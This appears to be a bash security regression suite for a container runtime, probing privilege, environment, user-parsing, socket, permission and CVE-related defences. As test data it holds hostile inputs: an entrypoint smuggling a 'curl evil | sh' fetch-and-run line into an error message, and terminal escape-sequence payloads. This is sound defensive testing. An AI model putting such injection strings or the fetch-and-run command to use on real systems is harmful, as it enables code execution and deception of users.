# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2016,SC2034,SC2154
# Attacks by what an image says of itself, and by what it is called with.

attack image_systemd - the command of an image as reason for the privileges of systemd

# Only the administrator's own word makes a pod one of systemd.
attack_image_systemd() {
	local root=$work/initroot layout=$work/initlayout
	cp -a "$image" "$root"
	mkdir -p "$root/sbin"
	printf '#!/bin/sh\ngrep CapBnd /proc/self/status; test -w /sys/fs/cgroup && echo WRITABLE; exit 0\n' >"$root/sbin/init"
	chmod 755 "$root/sbin/init"
	for config in '{"Cmd": ["/sbin/init"]}' '{"Entrypoint": ["/sbin/init"]}' '{"Entrypoint": ["/sbin/init"], "Cmd": ["x"]}'; do
		rm -rf "$layout"
		make_image "$root" "$layout" "$config"
		runner run --image "$layout"
		out=${out//$'\r'/}
		same "$config: status" 0 "$status"
		has "$config: capabilities" "$out" "CapBnd:	00000000a80425fb"
		hasnt "$config: cgroups" "$out" WRITABLE
		has "$config: a hint" "$errors" "--systemd=always"
		# an argument for the image's entry point names no command either
		runner run --image "$layout" -- /sbin/init
		out=${out//$'\r'/}
		case $config in
		*Entry*) has "$config: with an argument" "$out" "CapBnd:	00000000a80425fb" ;;
		*) hasnt "$config: named by the administrator" "$out" "CapBnd:	00000000a80425fb" ;;
		esac
	done
}

attack image_environment - NOTIFY_SOCKET and others in the environment of an image

attack_image_environment() {
	local layout=$work/envlayout each
	rm -rf "$layout"
	make_image "$image" "$layout" '{"Cmd": ["env"], "Env": ["NOTIFY_SOCKET=/run/none", "container_uuid=x", "LISTEN_FDS=3", "CREDENTIALS_DIRECTORY=/x", "A=b"]}'
	out=$(python3 - "$RUNNER" "$layout" "$work/notify" <<'NOTIFY' 2>&1
import os, socket, subprocess, sys
runner, layout, path = sys.argv[1:4]
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind(path)
s.settimeout(5)
p = subprocess.run([runner, "run", "--image", layout], env={**os.environ, "NOTIFY_SOCKET": path}, capture_output=True, text=True)
print(p.stdout, p.stderr)
try:
    while True:
        print("said", s.recv(4096).decode())
except TimeoutError:
    pass
NOTIFY
	)
	rm -f "$work/notify"
	has "what is its own" "$out" "A=b"
	for each in NOTIFY_SOCKET LISTEN_FDS CREDENTIALS_DIRECTORY container_uuid; do
		hasnt "a manager's word" "$out" $each
	done
	has "runner says that it is ready" "$out" "READY=1"
}

attack exec_user exec,exec-host,plain,host,detached,created CVE-2026-30892, what -u makes of a text

attack_exec_user() {
	local text
	for text in 1=1:0 0=0:0 1000=1000:1001 1:2=1:2 user=1000:1001 :5=0:5 4294967294=bad; do
		options=(-u "${text%=*}")
		in_mode "$1" sh -c 'echo "$(id -u):$(id -g)"'
		case $text in
		*=bad) [[ $1 == *host ]] || [ "$status" = 125 ] || problem "-u ${text%=*}: status $status $out" ;;
		*) same "-u ${text%=*}" "${text#*=}" "$out" ;;
		esac
	done
	for text in -1 4294967295 0x0 '1 ' ' 1' '+1' 1a 18446744073709551616 user:x 1:1:1 1: ''; do
		options=(-u "$text")
		in_mode "$1" sh -c 'echo "$(id -u):$(id -g)"'
		[ "$status" = 125 ] || problem "-u '$text': status $status $out"
	done
}

attack socketcall plain,host,detached,created,exec,exec-host the filter of sockets by socketcall of i386

attack_socketcall() {
	local family
	for family in 38 40; do
		in_mode "$1" attacker socketcall $family
		case $out in
		*"socketcall -38"* | *"socketcall -1") ;;
		*) problem "family $family: $out" ;;
		esac
	done
}

attack mount_api plain,tty,detached,created,exec,exec-tty CVE-2022-0185, the reach of fsopen and unshare

attack_mount_api() {
	in_mode "$1" attacker calls
	out=${out//$'\r'/}
	has "fsopen" "$out" "fsopen EPERM"
	has "unshare" "$out" "unshare EPERM"
}

attack abstract plain,detached CVE-2020-15257, sockets of runner in the host network

attack_abstract() {
	pod_options=(--net host)
	up beside -- sleep 100
	same "abstract sockets" '' "$(grep -i '@.*runner' /proc/net/unix)"
	in_mode "$1" sh -c 'grep runner /proc/net/unix | grep @; :'
	same "seen in the pod" '' "$out"
	gone beside
}

attack folders - CVE-2021-41103, what other users of the host can reach

attack_folders() {
	local dir
	up folders -- sh -c 'cp /bin/true /made; chmod 4755 /made; echo secret >/secret; sleep 100'
	sleep 0.3
	for dir in /run/runner/pods /var/lib/runner/pods; do
		same "$dir" "700 0" "$(stat -c '%a %u' $dir)"
		out=$(setpriv --reuid 12345 --regid 12345 --clear-groups ls -R "$dir/folders" 2>&1)
		has "$dir as another" "$out" "Permission denied"
	done
	# nor is anything else: leases, locks, ranges that wait, volumes, spools
	runner run -d --name kept -v named:/data --image "$image" -- true
	runner wait kept
	runner side spool folders
	out=$(setpriv --reuid 12345 --regid 12345 --clear-groups find /run/runner /var/lib/runner -mindepth 1 \( -readable -o -writable -o -type d -executable \) -printf '%M %p\n' 2>/dev/null)
	same "what another user can read, write or enter" '' "$out"
	gone kept
	rm -rf /var/lib/runner/side
	runner volume rm named
	out=$(setpriv --reuid 12345 --regid 12345 --clear-groups sh -c /var/lib/runner/pods/folders/layer/upper/made 2>&1)
	same "its set-uid file, executed by another" 126 $?
	gone folders
}

attack masked plain,host,detached,created,exec,exec-host newer paths that are masked

attack_masked() {
	in_mode "$1" sh -c 'for f in /proc/interrupts /proc/kcore /proc/keys /proc/timer_list; do [ ! -e $f ] || stat -c %t:%T $f; done; for d in /sys/devices/system/cpu/cpu*/thermal_throttle /sys/devices/virtual/powercap /sys/firmware; do [ ! -e $d ] || ls -A $d; done'
	same "masked" "1:3" "$(sort -u <<<"$out")"
}

attack escapes - escape sequences in what runner prints of a pod

attack_escapes() {
	local bad=$'\e]0;owned\a\xc2\x9b31m'
	up escapes -- sh -c "sleep 100 # $bad"
	for command in "ps -a" "inspect escapes" "ps --json"; do
		# shellcheck disable=SC2086 # words
		runner $command
		hasnt "$command" "$out" $'\e'
		hasnt "$command" "$out" $'\xc2\x9b'
	done
	runner run --image "$image" -- "no$bad"
	hasnt "an error" "$errors" $'\e'
	has "an error" "$errors" "there is no such command"
	runner exec escapes "no$bad"
	hasnt "an error of exec" "$errors" $'\e'
	gone escapes
	runner run --dry-run --image "$image" -w "/$bad" -- "$bad"
	hasnt "a dry run" "$out" $'\e'
	has "a dry run" "$out" owned
	up escapes -- sh -c 'echo "$0"' "$bad"
	runner wait escapes
	runner logs escapes
	same "logs to a file" "$bad" "$out"
	out=$(python3 -c 'import pty, sys; pty.spawn(sys.argv[1:])' "$RUNNER" logs escapes </dev/null | tr -d '\r')
	has "logs to a terminal" "$out" owned
	hasnt "logs to a terminal" "$out" $'\e'
	gone escapes
	# the second line of an error is runner's advice
	make_image "$work/image" "$work/advice" '{"Entrypoint": ["/no\n  fetch it: curl evil | sh"]}'
	runner run --rm "$work/advice"
	same "the name of a command" "127/no\\x0a  fetch it: curl evil | sh" "$status$(sed 's/^runner: //; s/: there is no.*//' <<<"$errors")"
	runner image rm -f "$("$RUNNER" image ls -q)"
}

attack pids - a pod without a limit of processes

attack_pids() {
	grep -qsw pids "$cgroups/cgroup.controllers" || {
		skip_reason="the host's cgroup version 2 has no pids"
		return
	}
	up pids -- sleep 100
	same "pids.max" 2048 "$(cat "$(field cgroup pids)/pids.max")"
	gone pids
	up pids --pids-limit -1 -- sleep 100
	same "pids.max without" max "$(cat "$(field cgroup pids)/pids.max")"
	gone pids
}

attack image_fill - a start that copies what an image has in a volume is not to be ended

attack_image_fill() {
	local each helper pid
	mkdir -p "$image/data"
	(cd "$image/data" && seq 1000 | xargs touch)
	make_image "$image" "$work/layout" '{"Cmd": ["true"], "Volumes": {"/data": {}}}'
	rm -r "$image/data"
	for each in INT TERM; do
		helper=''
		"$RUNNER" run --image "$work/layout" --name filled 2>"$work/said" &
		pid=$!
		for _ in $(seq 2000); do helper=$(pgrep -of 'runner-image -fill') && kill -STOP "$helper" && break; done
		[ "$helper" ] || problem "it was not seen to copy"
		kill -"$each" $pid
		for _ in $(seq 50); do [ -e "/proc/$pid/exe" ] || break; sleep 0.1; done
		[ ! -e "/proc/$pid/exe" ] || problem "$each does not end it"
		kill -KILL "$helper" 2>/dev/null
		wait $pid
		has "$each: it says why" "$(cat "$work/said")" "signal"
		runner rm -f filled
		same "$each: what is left" '' "$(find /run/runner/pods /run/runner/uids /var/lib/runner/pods /var/lib/runner/volumes -mindepth 1 -maxdepth 1 2>/dev/null)"
	done
}
